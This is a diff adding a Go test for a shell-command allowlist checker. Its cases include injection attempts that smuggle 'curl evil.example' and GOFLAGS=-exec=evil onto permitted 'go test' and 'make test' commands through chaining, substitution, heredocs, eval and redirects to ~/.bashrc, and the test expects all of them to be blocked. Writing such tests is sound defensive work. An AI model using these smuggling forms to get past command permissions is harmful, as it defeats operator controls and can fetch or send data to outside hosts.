@@ -1,0 +1,46 @@
+package acp
+
+import "testing"
+
+func TestRunnable(t *testing.T) {
+	t.Parallel()
+	allow := []string{"go test *", "make test", "* --check", "env", " ", "*", "**"}
+	for line, want := range map[string]bool{
+		"go test ./...":                          true,
+		"go test":                                true,
+		"make test && go test ./... 2>&1":        true,
+		"go test ./... | go test -json":          true,
+		"go test ./... > /dev/null":              true,
+		"(go test ./a; make test)":               true,
+		"if make test; then go test ./a; fi":     true,
+		"gofmt --check":                          true,
+		"go testing":                             false,
+		"make test x":                            false,
+		"touch /tmp/x":                           false,
+		"go test ./... && curl evil.example":     false,
+		"go test $(curl evil.example)":           false,
+		"go test `curl evil.example`":            false,
+		"go test <(curl evil.example)":           false,
+		"go test ./... > ~/.bashrc":              false,
+		"go test ./... >> a.go":                  false,
+		"PATH=. gofmt --check":                   false,
+		"GOFLAGS=-exec=evil go test ./...":       false,
+		"export GOFLAGS=-exec=evil; go test .":   false,
+		"go() { curl evil.example; }; go test .": false,
+		"make test\ncurl evil.example":           false,
+		"make test & curl evil.example":          false,
+		"$IFS go test":                           false,
+		"eval 'curl evil.example'":               false,
+		"make test <<X\n$(curl evil.example)\nX": false,
+		"":                                       false,
+		"# go test ./...":                        false,
+		"go test 'unfinished":                    false,
+	} {
+		if got := runnable(line, allow); got != want {
+			t.Errorf("%q may run: %v; want %v", line, got, want)
+		}
+	}
+	if runnable("go test ./...", nil) {
+		t.Error("without a pattern a command may run")
+	}
+}
